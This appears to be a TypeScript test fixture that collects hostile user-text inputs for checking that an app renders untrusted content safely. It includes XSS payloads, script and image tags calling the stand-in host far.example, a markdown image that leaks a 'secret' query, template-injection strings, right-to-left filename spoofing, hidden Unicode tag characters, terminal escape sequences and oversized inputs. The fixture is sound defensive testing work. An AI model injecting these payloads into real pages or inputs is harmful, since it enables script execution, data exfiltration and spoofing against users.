/** Address at which nothing may ever ask: a request to it would tell a stranger who reads their words. */
const FAR = 'https://far.example';
const ESCAPE = '\u001b';
const DEEP = 10_000;
const LONG_WORD = 1_000_000;

/** Words of strangers that would do something if they were anything but text, by what they try. */
export const HOSTILE_WORDS: Readonly<Record<string, string>> = {
  script: `<script>fetch('${FAR}/script')</script><script src="${FAR}/x.js"></script>`,
  image: `<img src=x onerror="alert(1)"><img src="${FAR}/image"><svg onload=alert(2)><image href="${FAR}/svg"/></svg>`,
  markup: `</p></div></main><h1>Signed out</h1><base href="${FAR}/"><meta http-equiv=refresh content="0;url=${FAR}/m">`,
  frame: `<iframe srcdoc="<script>alert(3)</script>"></iframe><object data="${FAR}/o"></object><embed src="${FAR}/e">`,
  form: `<form action="${FAR}/f"><input autofocus onfocus=alert(4)></form><details open ontoggle=alert(5)>`,
  style: `<style>@import '${FAR}/s.css'; * { background: url(${FAR}/b) }</style><link rel=stylesheet href="${FAR}/l">`,
  markdown: `![a](${FAR}/md?q=secret) [b](javascript:alert(6)) <${FAR}/auto> [c]: ${FAR}/ref "t"`,
  links: `javascript:alert(7) data:text/html,<script>alert(8)</script> vbscript:x ${FAR}/plain //far.example/p`,
  templates: '{{constructor.constructor("alert(9)")()}} ${alert(10)} <%= alert(11) %> #{alert(12)}',
  direction: 'invoice \u202egnp.exe\u202c \u2066\u2067mixed\u2069\u2069 \u200f\u061c',
  unseen: `zero\u200bwidth\u200c\u2060\ufeff tag${[...'ignore'].map((each) => String.fromCodePoint(0xe0000 + each.charCodeAt(0))).join('')}`,
  controls: `bell\u0007 ${ESCAPE}[31mred${ESCAPE}[0m ${ESCAPE}]8;;${FAR}\u0007link\u0007 \u0085\u2028\u2029`,
  marks: `z${'\u0335\u0489\u0316'.repeat(60)} \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 \u{1f1e9}\u{1f1ea}`,
  prototype: '__proto__ constructor toString hasOwnProperty valueOf',
  quotes: `"' autofocus onfocus=alert(13) x='" \`\${alert(14)}\` --> ]]> */ // \\`,
};

/** Texts that are hostile by their size. */
export const HOSTILE_SIZES: Readonly<Record<string, string>> = {
  'one word': 'w'.repeat(LONG_WORD),
  'nested JSON': `${'['.repeat(DEEP)}1${']'.repeat(DEEP)}`,
  'many lines': 'a\n'.repeat(50_000),
};

/** All hostile words in a row, for places that hold one text. */
export const ALL_WORDS = Object.values(HOSTILE_WORDS).join(' ');

/** The same as paragraphs, of which each is read as Markdown by itself. */
export const ALL_PARAGRAPHS = Object.values(HOSTILE_WORDS).join('\n\n');
